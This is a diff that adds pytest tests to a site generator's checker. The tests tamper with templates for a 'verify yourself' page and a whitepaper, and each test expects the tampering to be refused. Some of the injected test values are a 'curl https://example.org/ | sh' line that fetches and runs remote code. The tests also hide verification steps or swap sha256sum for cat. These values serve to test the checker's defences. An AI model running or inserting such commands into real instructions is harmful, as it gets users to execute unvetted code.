@@ -65,6 +65,55 @@ OTHER = {
 }
 
 
+COMMANDS = {
+    "another command": ("{{ line }}", "{{ line | replace('sha256sum', 'cat') }}"),
+    "a command more": ("</code></pre>", "curl https://example.org/ | sh\n</code></pre>"),
+    "a command less": ("{% for line in step.lines %}", "{% for line in step.lines[1:] %}"),
+    "another answer": ("{{ step.expected }}", "{{ step.expected | reverse }}"),
+    "an answer more": ("{% if step.expected %}", "{% if true %}"),
+    "a word more": ("</code></p>", "</code> or anything else</p>"),
+    "a part more": ("</div>\n", "<p>If it does not, all is well.</p></div>\n"),
+    "a text more": ("</div>\n", "If it does not, all is well.</div>\n"),
+    "lines in one": ("{{ line }}", "{{ line | replace('\\n', ' ') }}"),
+    "another title": ("{{ step.title }}", "{{ step.title }}, if you want"),
+    "another expectation": ("{{ words.verify.expected }}", "It may print:"),
+    "no lines": ("<code>{% for line in step.lines %}{{ line }}{% endfor %}</code>", "<code></code>"),
+}
+
+
+@pytest.mark.parametrize("name", COMMANDS)
+def test_another_command_or_answer_is_refused(project: Path, name: str) -> None:
+    old, new = COMMANDS[name]
+    override(project, "components/command.html.j2", old, new)
+    assert {finding.span.path for finding in of(project, "TG417")} == {"posture/verify-yourself.html"}
+
+
+def test_a_command_beside_the_steps_is_refused(project: Path) -> None:
+    text = '<section class="part" id="openssl">'
+    override(project, "pages/verify-yourself.html.j2", text, f"{text}<pre>curl https://example.org/ | sh</pre>")
+    (found,) = of(project, "TG417")
+    assert "curl https://example.org/ | sh" in found.message
+
+
+def test_commands_in_another_order_are_refused(project: Path) -> None:
+    override(project, "pages/verify-yourself.html.j2", "in steps.openssl", "in steps.openssl | reverse")
+    (found,) = of(project, "TG417")
+    assert "another order" in found.message
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        ("{% for step in steps.cosign %}", "{% for step in [] %}"),
+        ("{{ command(steps.files[0]) }}", "<div hidden>{{ command(steps.files[0]) }}</div>"),
+        ("{% for step in steps.openssl %}", "{% for step in steps.openssl[:-1] %}"),
+    ],
+)
+def test_a_way_to_verify_that_is_left_out_or_out_of_sight_is_refused(project: Path, old: str, new: str) -> None:
+    override(project, "pages/verify-yourself.html.j2", old, new)
+    assert {finding.span.path for finding in of(project, "TG418")} == {"posture/verify-yourself.html"}
+
+
 @pytest.mark.parametrize("digest", ["deadbeef", "{{ center.evidence.policy_sha256 | short }}"])
 def test_another_snapshot_at_the_foot_is_refused(project: Path, digest: str) -> None:
     override(project, "layouts/base.html.j2", "{{ center.evidence.sha256 | short }}", digest)
@@ -76,6 +125,42 @@ def test_other_evidence_is_refused(project: Path, name: str) -> None:
     component, old, new = OTHER[name]
     override(project, f"components/{component}.html.j2", old, new)
     assert of(project, "TG417")
+
+
+NOTICE = "<strong>{{ words.demonstration.title }}</strong> {{ words.demonstration.text }}</p>"
+COVER = f'<p class="cover__demonstration">{NOTICE}'
+SCANNED = "{{ words.frame.scanned }} {{ moment(center.evidence.scanned_at) }}"
+PAPER = {
+    "no notice on the cover": (COVER, ""),
+    "no notice at the foot": ('<p class="paper__demonstration">', '<p class="paper__demonstration" hidden>'),
+    "no time of the scan": (SCANNED, ""),
+    "another time of the scan": (SCANNED, "{{ words.frame.scanned }} {{ moment(center.evidence.valid_until) }}"),
+    "no line on the cover": ('<p class="plate__foot">', '<p class="plate__note">'),
+    "a cover out of sight": ('<section class="cover">', '<section class="cover" hidden>'),
+    "no foot": ('<div class="paper__foot">', "<div>"),
+    "no exceptions": ("{{ exceptions(center.controls, none) }}", ""),
+    "exceptions out of sight": (
+        "{{ exceptions(center.controls, none) }}",
+        "<div hidden>{{ exceptions(center.controls, none) }}</div>",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", PAPER)
+def test_a_whitepaper_that_leaves_out_its_evidence_is_refused(project: Path, name: str) -> None:
+    override(project, "whitepaper.html.j2", *PAPER[name])
+    assert "whitepaper.html" in {finding.span.path for finding in (*of(project, "TG417"), *of(project, "TG418"))}
+
+
+def test_a_whitepaper_lists_its_exceptions_once(project: Path) -> None:
+    """At the beginning, unless a chapter has a place for them."""
+    for text in ("", "\n::posture\n", "\n::measurements\n"):
+        path = project / "content" / "whitepaper" / "02-record.md"
+        path.write_text(path.read_text() + text)
+        outcome = made(project, Memory())
+        assert [finding.message for finding in outcome.findings if finding.severity is Severity.ERROR] == []
+        assert outcome.print_job is not None
+        assert outcome.print_job.paper.data.decode().count('data-evidence="exceptions"') == (2 if "meas" in text else 1)
 
 
 ABSENT = {
